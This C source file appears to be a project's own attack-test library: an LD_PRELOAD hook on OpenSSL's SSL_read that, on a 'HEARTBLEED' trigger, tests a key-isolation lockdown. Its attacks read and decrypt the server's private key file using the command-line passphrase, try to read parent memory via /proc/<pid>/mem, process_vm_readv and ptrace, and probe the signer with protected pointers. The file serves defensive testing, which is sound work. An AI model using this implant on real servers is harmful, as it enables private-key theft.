/* libattack_postlockdown.so: the attacker's code after the lockdown, for an
 * unmodified `openssl s_server` that holds its key in the cordon provider
 * (attacker review of issue 16). LD_PRELOADed like libheartbleed.so, and
 * answering the same trigger, so that tls_attack.cc's harness (a random key
 * per run, the judge outside this process) can drive it: when a record
 * starts with "HEARTBLEED" the handshake has signed, so with lockdown =
 * first-use the process is locked down, and this code stands for arbitrary
 * code execution in it (docs/openssl.md's threat model: "any system call
 * the filter allows").
 *
 * What it does, by $ATTACK_MODE:
 *   keyfile (default): finds the key's path as the server was told it, in
 *     /proc/self/cmdline ("-key cordon:/path", or a cordon-key reference
 *     file whose "path" line names it), open(2)s and read(2)s that file: no
 *     protection key covers a file, and Landlock grants read access beneath
 *     every other entry of "/". If the file is encrypted, the passphrase is
 *     in the same command line ("-pass pass:..."), and this process's own
 *     libcrypto (default provider) decrypts it, as an attacker's code would.
 *     The dump gets the file's bytes and, when it decoded, the unencrypted
 *     PKCS#8 PEM.
 *   fork: fork()s; the child (which holds a copy of the domain's pages)
 *     tries /proc/<parent>/mem, process_vm_readv and ptrace on the parent,
 *     then its own /proc/self/mem; whatever it reads goes to the dump.
 *
 * The dump file is $HEARTBLEED_DUMP (no index runs); the reply, like
 * heartbleed's, is "heartbleed: dumped N pages (B bytes), M refused", then a
 * line per step saying what happened (for the report), sent to the client
 * and to stderr. Whether the process was locked down is said too
 * (cordon_is_locked_down() from the preloaded libcordon.so, and the
 * "Seccomp:" line of /proc/self/status). */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <openssl/bio.h>
#include <openssl/evp.h>
#include <openssl/pem.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

typedef struct ssl_st SSL;
typedef int (*ssl_read_fn)(SSL*, void*, int);
typedef int (*ssl_write_fn)(SSL*, const void*, int);

static ssl_read_fn real_ssl_read;
static ssl_write_fn real_ssl_write;
static const char kTrigger[] = "HEARTBLEED";

__attribute__((constructor)) static void Resolve(void) {
  real_ssl_read = (ssl_read_fn)dlsym(RTLD_NEXT, "SSL_read");
  real_ssl_write = (ssl_write_fn)dlsym(RTLD_NEXT, "SSL_write");
}

struct Report {
  char text[8192];
  size_t len;
};

static void Say(struct Report* r, const char* fmt, ...) __attribute__((format(printf, 2, 3)));
static void Say(struct Report* r, const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  int n = vsnprintf(r->text + r->len, sizeof r->text - r->len, fmt, ap);
  va_end(ap);
  if (n > 0) r->len += (size_t)n < sizeof r->text - r->len ? (size_t)n : sizeof r->text - r->len - 1;
}

/* Reads a whole file with plain open/read; NULL (errno kept) on failure. */
static char* Slurp(const char* path, size_t* len) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return NULL;
  size_t cap = 1 << 16, n = 0;
  char* buf = malloc(cap + 1);
  for (;;) {
    if (n == cap) buf = realloc(buf, (cap *= 2) + 1);
    ssize_t r = read(fd, buf + n, cap - n);
    if (r < 0 && errno == EINTR) continue;
    if (r < 0) {
      int e = errno;
      close(fd);
      free(buf);
      errno = e;
      return NULL;
    }
    if (r == 0) break;
    n += (size_t)r;
  }
  close(fd);
  buf[n] = '\0';
  *len = n;
  return buf;
}

static void Append(int dump, const void* p, size_t n, unsigned long long* bytes) {
  const char* c = p;
  while (n > 0) {
    ssize_t w = write(dump, c, n);
    if (w < 0 && errno == EINTR) continue;
    if (w <= 0) return;
    c += w;
    n -= (size_t)w;
    *bytes += (unsigned long long)w;
  }
}

static void SayLockdown(struct Report* r) {
  int (*locked)(void) = (int (*)(void))dlsym(RTLD_DEFAULT, "cordon_is_locked_down");
  size_t n = 0;
  char* status = Slurp("/proc/self/status", &n);
  const char* sec = status != NULL ? strstr(status, "Seccomp:") : NULL;
  int mode = -1;
  if (sec != NULL) sscanf(sec, "Seccomp: %d", &mode);
  Say(r, "attack: cordon_is_locked_down() = %d, Seccomp: %d\n", locked != NULL ? locked() : -1, mode);
  free(status);
}

/* The argument after `opt` in /proc/self/cmdline, into out. */
static int CmdlineArg(const char* opt, char* out, size_t out_len) {
  size_t n = 0;
  char* cmd = Slurp("/proc/self/cmdline", &n);
  if (cmd == NULL) return 0;
  int found = 0;
  for (size_t i = 0; i < n; i += strlen(cmd + i) + 1) {
    if (strcmp(cmd + i, opt) == 0 && i + strlen(cmd + i) + 1 < n) {
      snprintf(out, out_len, "%s", cmd + i + strlen(cmd + i) + 1);
      found = 1;
      break;
    }
  }
  free(cmd);
  return found;
}

/* The key file's path: from "cordon:/path", or from the "path" line of a
 * reference file (PEM of base64 text; libcrypto's PEM reader decodes it). */
static int KeyPath(struct Report* r, char* path, size_t path_len) {
  char arg[4096];
  if (!CmdlineArg("-key", arg, sizeof arg)) {
    Say(r, "attack: no -key in /proc/self/cmdline\n");
    return 0;
  }
  if (strncmp(arg, "cordon:", 7) == 0) {
    const char* p = arg + 7;
    while (p[0] == '/' && p[1] == '/') ++p; /* cordon:///abs */
    snprintf(path, path_len, "%s", p);
    Say(r, "attack: -key %s names %s\n", arg, path);
    return 1;
  }
  BIO* bio = BIO_new_file(arg, "r");
  char *name = NULL, *header = NULL;
  unsigned char* data = NULL;
  long len = 0;
  int ok = bio != NULL && PEM_read_bio(bio, &name, &header, &data, &len) == 1;
  BIO_free(bio);
  if (ok) {
    char* text = malloc((size_t)len + 1);
    memcpy(text, data, (size_t)len);
    text[len] = '\0';
    const char* line = strstr(text, "\npath ");
    ok = line != NULL;
    if (ok) {
      line += 6;
      size_t l = strcspn(line, "\n");
      snprintf(path, path_len, "%.*s", (int)l, line);
      Say(r, "attack: -key %s is a %s naming %s\n", arg, name, path);
    }
    free(text);
  }
  OPENSSL_free(name);
  OPENSSL_free(header);
  OPENSSL_free(data);
  if (!ok) Say(r, "attack: cannot find the key's path in -key %s\n", arg);
  return ok;
}

static void StealKeyFile(int dump, struct Report* r, unsigned long long* bytes) {
  char path[4096];
  if (!KeyPath(r, path, sizeof path)) return;
  size_t n = 0;
  char* file = Slurp(path, &n);
  if (file == NULL) {
    Say(r, "attack: open/read %s failed: %s\n", path, strerror(errno));
    return;
  }
  Say(r, "attack: read %zu bytes of %s with open(2)+read(2)\n", n, path);
  Append(dump, file, n, bytes);
  /* Encrypted: the passphrase is the server's own (-pass pass:...). */
  char pass[1024] = "";
  if (CmdlineArg("-pass", pass, sizeof pass) && strncmp(pass, "pass:", 5) == 0) {
    BIO* bio = BIO_new_mem_buf(file, (int)n);
    EVP_PKEY* k = PEM_read_bio_PrivateKey_ex(bio, NULL, NULL, pass + 5, NULL, "provider=default");
    BIO_free(bio);
    if (k == NULL) {
      Say(r, "attack: the passphrase from -pass did not decrypt it\n");
    } else {
      BIO* out = BIO_new(BIO_s_mem());
      PEM_write_bio_PKCS8PrivateKey(out, k, NULL, NULL, 0, NULL, NULL);
      char* pem = NULL;
      long m = BIO_get_mem_data(out, &pem);
      Append(dump, pem, (size_t)m, bytes);
      Say(r, "attack: decrypted it with the passphrase from -pass: %ld bytes of PKCS#8 PEM\n", m);
      BIO_free(out);
      EVP_PKEY_free(k);
    }
  }
  free(file);
}

/* The pages of this process that this thread cannot read (the domain's):
 * write(2) from them to a scratch file fails with EFAULT (not /dev/null,
 * whose write never reads the buffer). Listed in the parent, before the
 * fork: the child's own /proc/self is closed by Landlock. */
static size_t UnreadablePages(uintptr_t* out, size_t cap) {
  size_t n = 0, got = 0;
  char* maps = Slurp("/proc/self/maps", &n);
  /* Write-only: after the lockdown a new file in a directory on the key's
   * path (/tmp here) can be written but not read (the closed key file). */
  int scratch = open("/tmp", O_TMPFILE | O_WRONLY | O_CLOEXEC, 0600);
  if (scratch < 0) fprintf(stderr, "attack: no scratch file in /tmp: %s\n", strerror(errno));
  for (char* s = maps; s != NULL && *s != '\0' && scratch >= 0;) {
    unsigned long a, b;
    char perms[8];
    char* next = strchr(s, '\n');
    if (next != NULL) *next++ = '\0';
    if (sscanf(s, "%lx-%lx %7s", &a, &b, perms) == 3 && perms[0] == 'r' && strstr(s, "[vvar") == NULL &&
        strstr(s, "[vsyscall]") == NULL) {
      for (unsigned long p = a; p < b && got < cap; p += 4096) {
        if (pwrite(scratch, (void*)p, 4096, 0) == 4096) continue;
        out[got++] = p;
      }
    }
    if (next == NULL) break;
    s = next;
  }
  free(maps);
  if (scratch >= 0) close(scratch);
  return got;
}

struct ProbeState {
  pid_t parent;
  int dump, mem_fd, method, ok, err;
};

enum { kProcParentMem, kProcSelfMem, kVmReadv, kPtrace, kProbes };
static const char* const kProbeNames[] = {"pread of /proc/<parent>/mem",
                                          "pread of the child's /proc/self/mem", "process_vm_readv(parent)",
                                          "ptrace(PTRACE_ATTACH, parent)"};

static void ReadPage(uintptr_t page, void* arg) {
  struct ProbeState* s = arg;
  char buf[4096];
  ssize_t got = -1;
  if (s->method == kVmReadv) {
    struct iovec li = {buf, sizeof buf}, ri = {(void*)page, sizeof buf};
    got = process_vm_readv(s->parent, &li, 1, &ri, 1, 0);
  } else if (s->mem_fd >= 0) {
    got = pread(s->mem_fd, buf, sizeof buf, (off_t)page);
  }
  if (got == (ssize_t)sizeof buf) {
    s->ok++;
    unsigned long long b = 0;
    Append(s->dump, buf, sizeof buf, &b);
  } else {
    s->err = errno;
  }
}

/* One child per probe: a refused call is a lockdown violation, which ends
 * the child (exit 70). Each child says what it tries on the pipe first. */
static void ForkProbes(int dump, struct Report* r, unsigned long long* bytes) {
  const pid_t parent = getpid();
  static uintptr_t pages[1 << 16];
  const size_t n_pages = UnreadablePages(pages, sizeof pages / sizeof pages[0]);
  Say(r, "attack: %zu pages of this process are unreadable to its own code (the domain's)\n", n_pages);
  for (int method = 0; method < kProbes; ++method) {
    int pipefd[2];
    if (pipe(pipefd) != 0) {
      Say(r, "attack: pipe: %s\n", strerror(errno));
      return;
    }
    const pid_t child = fork();
    if (child < 0) {
      Say(r, "attack: fork() failed: %s\n", strerror(errno));
      return;
    }
    if (child == 0) {
      close(pipefd[0]);
      char line[512];
      int l = snprintf(line, sizeof line, "attack: child %d: %s: ", (int)getpid(), kProbeNames[method]);
      (void)!write(pipefd[1], line, (size_t)l);
      struct ProbeState s = {parent, dump, -1, method, 0, 0};
      const char* how = "";
      if (method == kProcParentMem || method == kProcSelfMem) {
        char path[64];
        if (method == kProcParentMem) {
          snprintf(path, sizeof path, "/proc/%d/mem", (int)parent);
        } else {
          snprintf(path, sizeof path, "/proc/self/mem");
        }
        s.mem_fd = open(path, O_RDONLY | O_CLOEXEC);
        how = s.mem_fd >= 0 ? "opened" : strerror(errno);
      }
      if (method == kPtrace) {
        long pt = ptrace(PTRACE_ATTACH, parent, 0, 0);
        l = snprintf(line, sizeof line, "%s\n", pt == 0 ? "attached" : strerror(errno));
        (void)!write(pipefd[1], line, (size_t)l);
        _exit(0);
      }
      for (size_t i = 0; i < n_pages; ++i) ReadPage(pages[i], &s);
      const int total = (int)n_pages;
      l = snprintf(line, sizeof line, "%s%s%d of %d unreadable pages read (last error: %s)\n", how,
                   how[0] != '\0' ? "; " : "", s.ok, total, s.ok == total ? "-" : strerror(s.err));
      (void)!write(pipefd[1], line, (size_t)l);
      _exit(0);
    }
    close(pipefd[1]);
    char buf[1024];
    ssize_t k;
    while ((k = read(pipefd[0], buf, sizeof buf - 1)) > 0) {
      buf[k] = '\0';
      Say(r, "%s", buf);
    }
    close(pipefd[0]);
    int st = 0;
    waitpid(child, &st, 0);
    if (WIFEXITED(st) && WEXITSTATUS(st) == 0) {
      Say(r, "(exit 0)\n");
    } else if (WIFEXITED(st)) {
      Say(r, "the child exited %d (70: a lockdown violation)\n", WEXITSTATUS(st));
    } else {
      Say(r, "the child was killed by signal %d\n", WTERMSIG(st));
    }
  }
  off_t end = lseek(dump, 0, SEEK_END);
  if (end > 0) *bytes = (unsigned long long)end;
}

/* Direct calls of the signer's sign entry (found by name with
 * cordon_entry_name, as an attacker would) with requests that name trusted
 * memory: tbs in the domain (an RSA PKCS#1 signature of it would give the
 * bytes back: s^e mod n), tbs straddling the edge of the domain, sig in the
 * domain (a write primitive), the request itself in the domain. Each must
 * be refused with CORDON_SIGNER_E_ARGUMENT (-1). The key: handle slot 0,
 * generation 1 (the first key loaded). */
typedef struct {
  int domain;
  uint32_t id;
} Entry;
typedef struct {
  uint64_t struct_size, handle;
  uint32_t scheme, digest, mgf1_digest;
  int32_t salt_len;
  const uint8_t* tbs;
  uint64_t tbs_len;
  uint8_t* sig;
  uint64_t sig_cap, sig_len;
} SignReq;

static void GateProbes(struct Report* r) {
  const char* (*name_of)(Entry) = (const char* (*)(Entry))dlsym(RTLD_DEFAULT, "cordon_entry_name");
  uint64_t (*call)(Entry, uint64_t, uint64_t, uint64_t, uint64_t, uint64_t) = (uint64_t(*)(
      Entry, uint64_t, uint64_t, uint64_t, uint64_t, uint64_t))dlsym(RTLD_DEFAULT, "cordon_call");
  if (name_of == NULL || call == NULL) {
    Say(r, "attack: gate: cordon_entry_name/cordon_call not found\n");
    return;
  }
  Entry sign = {0, 0};
  for (int d = 2; d < 16 && sign.domain == 0; ++d) {
    for (uint32_t id = 8; id < 32; ++id) {
      Entry e = {d, id};
      const char* n = name_of(e);
      if (n != NULL && strcmp(n, "openssl:sign") == 0) {
        sign = e;
        break;
      }
    }
  }
  if (sign.domain == 0) {
    Say(r, "attack: gate: no entry named openssl:sign\n");
    return;
  }
  static uintptr_t pages[1 << 16];
  const size_t n_pages = UnreadablePages(pages, sizeof pages / sizeof pages[0]);
  /* An unreadable page right after a readable one: the edge. */
  uintptr_t edge = 0;
  for (size_t i = 0; i < n_pages && edge == 0; ++i) {
    if (i == 0 || pages[i - 1] != pages[i] - 4096) edge = pages[i];
  }
  Say(r, "attack: gate: openssl:sign is domain %d id %u; %zu unreadable pages, edge at %#lx\n", sign.domain,
      sign.id, n_pages, (unsigned long)edge);
  static uint8_t digest[32] = {1, 2, 3}, sig[1024];
  const uint64_t handle = (1ull << 32) | 0;
  /* First a good call: it must work, or the others prove nothing. */
  struct {
    const char* what;
    const uint8_t* tbs;
    uint8_t* sig;
  } cases[] = {
      {"control: untrusted digest and buffer", digest, sig},
      {"tbs in the domain", n_pages > 0 ? (const uint8_t*)pages[n_pages / 2] : digest, sig},
      {"tbs straddling the domain's edge", edge != 0 ? (const uint8_t*)(edge - 16) : digest, sig},
      {"sig in the domain", digest, n_pages > 0 ? (uint8_t*)pages[n_pages / 2] : sig},
  };
  for (size_t i = 0; i < sizeof cases / sizeof cases[0]; ++i) {
    for (uint32_t scheme = 1; scheme <= 4; ++scheme) { /* whichever fits the key */
      SignReq q;
      memset(&q, 0, sizeof q);
      q.struct_size = sizeof q;
      q.handle = handle;
      q.scheme = scheme;
      q.digest = scheme == 4 ? 0 : 3;
      q.mgf1_digest = 3;
      q.salt_len = -1;
      q.tbs = cases[i].tbs;
      q.tbs_len = 32;
      q.sig = cases[i].sig;
      q.sig_cap = sizeof sig;
      const int64_t st = (int64_t)call(sign, (uint64_t)(uintptr_t)&q, 0, 0, 0, 0);
      if (st == -10) continue; /* E_MISMATCH: not this key's scheme */
      Say(r, "attack: gate: %s (scheme %u): status %lld\n", cases[i].what, scheme, (long long)st);
      break;
    }
  }
  /* The request itself in the domain. */
  if (n_pages > 0) {
    const int64_t st = (int64_t)call(sign, (uint64_t)pages[n_pages / 2], 0, 0, 0, 0);
    Say(r, "attack: gate: the request in the domain: status %lld\n", (long long)st);
  }
}

static void Attack(char* out, size_t out_len) {
  struct Report r = {.len = 0};
  r.text[0] = '\0';
  const char* dump_path = getenv("HEARTBLEED_DUMP");
  const char* mode = getenv("ATTACK_MODE");
  if (mode == NULL || mode[0] == '\0') mode = "keyfile";
  unsigned long long bytes = 0;
  int dump = dump_path != NULL ? open(dump_path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600) : -1;
  if (dump >= 0) {
    SayLockdown(&r);
    if (strcmp(mode, "fork") == 0) {
      ForkProbes(dump, &r, &bytes);
    } else if (strcmp(mode, "gate") == 0) {
      GateProbes(&r);
    } else {
      StealKeyFile(dump, &r, &bytes);
    }
    close(dump);
  }
  /* The harness reads the totals from this line; "pages" count nothing here. */
  snprintf(out, out_len, "heartbleed: dumped 0 pages (%llu bytes), 0 refused\n%s", bytes, r.text);
}

int SSL_read(SSL* ssl, void* buf, int num) {
  if (real_ssl_read == NULL) return -1;
  const int n = real_ssl_read(ssl, buf, num);
  if (n >= (int)(sizeof kTrigger - 1) && memcmp(buf, kTrigger, sizeof kTrigger - 1) == 0) {
    static char summary[9000];
    Attack(summary, sizeof summary);
    fputs(summary, stderr);
    fflush(stderr);
    real_ssl_write(ssl, summary, (int)strlen(summary));
  }
  return n;
}
